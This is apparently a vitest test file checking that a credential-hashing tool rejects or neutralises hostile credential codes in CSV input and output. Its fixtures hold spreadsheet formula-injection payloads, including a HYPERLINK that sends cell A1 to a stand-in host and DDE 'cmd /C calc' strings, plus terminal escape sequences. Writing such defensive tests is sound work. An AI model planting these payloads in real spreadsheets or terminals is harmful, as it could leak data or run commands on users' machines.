import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRowNormalizer } from '../../src/normalize/normalize-row.ts';
import { sourceMappingSchema } from '../../src/schema/source-mapping.ts';
import { catalogCredentialSchema } from '../../src/outcomes/outcomes-config.ts';
import { computeOutcomeTables } from '../../src/outcomes/compute-outcome-tables.ts';
import { tableCsv } from '../../src/outcomes/render-outputs.ts';
import type { PublishedTable } from '../../src/disclosure/cells.ts';
import { runInProcess } from '../hash/in-process.ts';
import { ROSTER_CSV, writeProject } from '../hash/roster-fixture.ts';
import { CATALOG, population, testConfig } from '../outcomes/population.ts';

const HOSTILE_CODES = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', 'SMITH JOHN 123-45-6789', 'CNA\u0000', '\u001b[2J\u001b[31mRN', 'LPN\u0007', 'X'.repeat(100_000)];

function normalizer(payload: Record<string, unknown>) {
  const mapping = sourceMappingSchema.parse({ credlinkMapping: 1, source: 'techcert', role: 'roster', personId: { column: 'id' }, fields: {}, payload });
  return createRowNormalizer(mapping, ['id', 'code'], 'roster.csv', { today: '2025-06-01' });
}

describe('credential codes are validated where they are hashed', () => {
  const normalize = normalizer({ credential: { column: 'code', type: 'code', required: true } });

  it.each(HOSTILE_CODES.map((code) => [JSON.stringify(code).slice(0, 40), code]))('rejects %s as PAYLOAD_INVALID, naming file, line and field', (_label, code) => {
    const row = normalize(['TC-1', code], 7);
    expect(row.rejected).toMatchObject({ code: 'PAYLOAD_INVALID', file: 'roster.csv', line: 7, field: 'credential', column: 'code' });
    expect(JSON.stringify(row.rejected)).not.toContain('SMITH');
  });

  it('keeps the codes of the bundled world and of real catalogs', () => {
    for (const code of ['DS-ITF', 'ST-WLD1', 'CNA', '11.0901', '002984-00', 'pass', 'A/B_2', 'A+', 'NET+']) expect(normalize(['TC-1', code], 2).payload.credential).toBe(code);
  });

  it('takes a pattern and a length from the mapping', () => {
    const spaced = normalizer({ credential: { column: 'code', type: 'code', required: true, pattern: '[A-Z]+( [0-9]+)?', maxLength: 6 } });
    expect(spaced(['TC-1', 'RN 12'], 2).payload.credential).toBe('RN 12');
    expect(spaced(['TC-1', 'RN 1234'], 3).rejected?.code).toBe('PAYLOAD_INVALID'); // 7 characters
    expect(spaced(['TC-1', 'rn'], 4).rejected?.code).toBe('PAYLOAD_INVALID'); // matched against the whole value
  });

  it('refuses a pattern that does not compile, or a pattern on a type other than code', () => {
    const base = { credlinkMapping: 1, source: 's', role: 'roster', personId: { column: 'id' }, fields: {} };
    expect(sourceMappingSchema.safeParse({ ...base, payload: { c: { column: 'c', type: 'code', pattern: '([' } } }).success).toBe(false);
    expect(sourceMappingSchema.safeParse({ ...base, payload: { d: { column: 'd', type: 'date', maxLength: 3 } } }).success).toBe(false);
  });
});

describe('credlink hash with hostile credential codes', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'credlink-codes-'));
    writeProject(dir);
    const hostile = ['=HYPERLINK("http://x.example","a")', 'SMITH JOHN 123-45-6789', '\u001b[31mRN'];
    const rows = hostile.map((code, i) => `TC-90${i},"Doe, Jane",01/02/1990,,,,"${code.replace(/"/g, '""')}",03/14/2023,pass`);
    writeFileSync(join(dir, 'roster.csv'), `${ROSTER_CSV}${rows.join('\n')}\n`);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('sets aside every row with a bad code, so rows in = rows out + rejected, and never prints the value', async () => {
    const at = (f: string) => join(dir, f);
    const run = await runInProcess(['hash', '--schema', at('schema.json'), '--mapping', at('roster.mapping.json'), '--secret-file', at('project.key'), '--rejects', at('rejects.csv'), '--json', at('roster.csv'), '-o', at('out.extract')]);
    expect(run.code).toBe(0);
    const extract = readFileSync(at('out.extract'), 'utf8');
    const summary = JSON.parse(run.stdout);
    expect(summary.manifest).toMatchObject({ rowsIn: 11, rowsRejected: 3, payloadRows: 8 });
    const rejects = readFileSync(at('rejects.csv'), 'utf8').trim().split('\n');
    expect(rejects).toHaveLength(1 + 3);
    expect(rejects.slice(1).every((line) => line.includes('PAYLOAD_INVALID'))).toBe(true);
    for (const text of [extract, run.stdout, run.stderr]) {
      expect(text).not.toContain('HYPERLINK');
      expect(text).not.toContain('SMITH');
      expect(text).not.toContain('\u001b');
    }
  });
});

describe('codes not in the catalog never become table rows', () => {
  it('leaves them out of every table and counts them', () => {
    const persons = population({ holders: 60, failers: 40, effect: 1500 });
    for (const [i, p] of persons.slice(0, 45).entries()) p.credentials.push({ credential: i % 2 ? 'SMITH JOHN 123-45-6789' : '=HYPERLINK("x")', examDate: '2019-03-01', result: 'pass', awardDate: '2019-03-05' });
    const result = computeOutcomeTables({ persons, catalog: CATALOG, employers: [] }, testConfig());
    const labels = new Set(result.tables.flatMap((t) => t.cells.flatMap((c) => Object.values(c.dims).map(String))));
    expect([...labels].some((l) => l.includes('SMITH') || l.includes('HYPERLINK'))).toBe(false);
    expect(labels.has('A')).toBe(true);
    expect(result.uncatalogued).toEqual({ records: 45, codes: 2 });
    expect(result.notes).toContain('45 exam records with 2 credential codes not in the catalog were left out of every table');
  });

  it('refuses a catalog code that a spreadsheet or a terminal would execute', () => {
    const entry = { name: 'n', issuer: 'i', type: 'certification' };
    for (const code of ['=HYPERLINK("x")', '+cmd', '@SUM(1)', '-1+2', 'RN\u001b[31m', 'CNA\u0000', 'X'.repeat(65)]) expect(catalogCredentialSchema.safeParse({ ...entry, code }).success).toBe(false);
    expect(catalogCredentialSchema.safeParse({ ...entry, code: 'DS-ITF' }).success).toBe(true);
  });
});

describe('table CSVs are safe to open in a spreadsheet', () => {
  const table: PublishedTable = {
    name: 't',
    title: 't',
    dims: ['credential'],
    definition: '',
    cells: ['=1+1', '+cmd', '-cmd', '@SUM(A1)', '\tTAB', 'BEL\u0007', 'ESC\u001b[2J', 'CR\rLF\n', 'DS-ITF'].map((credential) => ({ dims: { credential }, measure: 'did', value: -120, count: 35, status: 'ok' as const })),
  };

  it('prefixes formula starts with an apostrophe, replaces control characters, and keeps negative numbers as numbers', () => {
    const lines = tableCsv(table).trimEnd().split('\n');
    expect(lines).toHaveLength(1 + table.cells.length); // no control character split a record
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(["'=1+1", "'+cmd", "'-cmd", "'@SUM(A1)", '\uFFFDTAB', 'BEL\uFFFD', 'ESC\uFFFD[2J', 'CR\uFFFDLF\uFFFD', 'DS-ITF']);
    expect(lines[1]).toContain(',did,-120,35,ok,');
    expect(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/u.test(tableCsv(table))).toBe(false);
  });
});

describe('credlink diff prints no control character from a run folder', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'credlink-diff-'));
    for (const [run, value] of [['a', 1], ['b', 2]] as const) {
      mkdirSync(join(dir, run, 'tables'), { recursive: true });
      writeFileSync(join(dir, run, 'run-manifest.json'), JSON.stringify({ job: { name: 'x' } }));
      const cells = [{ credential: '\u001b]0;pwned\u0007\u001b[2J', measure: 'n', value, count: 10, status: 'ok' }];
      writeFileSync(join(dir, run, 'tables', 't.json'), JSON.stringify({ table: 't', title: 't', dims: ['credential'], cells }));
    }
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it.each([[[]], [['--json']]])('with flags %j', async (flags) => {
    const run = await runInProcess(['diff', join(dir, 'a'), join(dir, 'b'), ...flags]);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('pwned');
    expect(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/u.test(run.stdout)).toBe(false);
  });
});
